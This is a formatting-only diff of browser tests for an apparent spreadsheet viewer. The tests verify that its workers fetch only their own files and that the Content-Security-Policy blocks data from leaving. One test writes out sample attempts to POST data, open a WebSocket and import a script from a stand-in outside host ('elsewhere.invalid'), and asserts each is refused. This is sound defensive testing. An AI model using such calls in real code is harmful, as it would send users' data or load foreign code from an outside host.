@@ -74,7 +74,13 @@ test("a file is never sent: the readers' own files are all that is fetched", asy
     await read(page);
   }
   const asked = requestsSince(loaded).filter(({ url }) => !url.startsWith("blob:"));
-  const kinds = asked.map(({ method, url }) => `${method} ${new URL(url).pathname.split("/").pop().replace(/\W[\w-]*\.|_bg\./, ".")}`);
+  const kinds = asked.map(
+    ({ method, url }) =>
+      `${method} ${new URL(url).pathname
+        .split("/")
+        .pop()
+        .replace(/\W[\w-]*\.|_bg\./, ".")}`,
+  );
   assert.deepEqual(kinds.sort(), ["GET spreadsheet.js", "GET spreadsheet.wasm", "GET worker.js", "GET worker.wasm"]);
 });
 
@@ -109,10 +115,26 @@ test("a reader that holds figures cannot send them anywhere", async (visit) => {
         request: () => {
           const request = new XMLHttpRequest();
           request.open("POST", `${elsewhere}/request`);
-          try { request.send("9"); } catch { /* refused */ }
+          try {
+            request.send("9");
+          } catch {
+            /* refused */
+          }
         },
-        socket: () => { try { new WebSocket(`wss://elsewhere.invalid/socket`); } catch { /* refused */ } },
-        script: () => { try { importScripts(`${elsewhere}/script`); } catch { /* refused */ } },
+        socket: () => {
+          try {
+            new WebSocket(`wss://elsewhere.invalid/socket`);
+          } catch {
+            /* refused */
+          }
+        },
+        script: () => {
+          try {
+            importScripts(`${elsewhere}/script`);
+          } catch {
+            /* refused */
+          }
+        },
       };
       const refused = [];
       for (const [name, attempt] of Object.entries(attempts)) {
@@ -122,7 +144,11 @@ test("a reader that holds figures cannot send them anywhere", async (visit) => {
       }
       return refused;
     });
-    assert.deepEqual(refused, ["fetch: connect-src", "request: connect-src", "socket: connect-src", "script: script-src"], name);
+    assert.deepEqual(
+      refused,
+      ["fetch: connect-src", "request: connect-src", "socket: connect-src", "script: script-src"],
+      name,
+    );
   }
 });
 
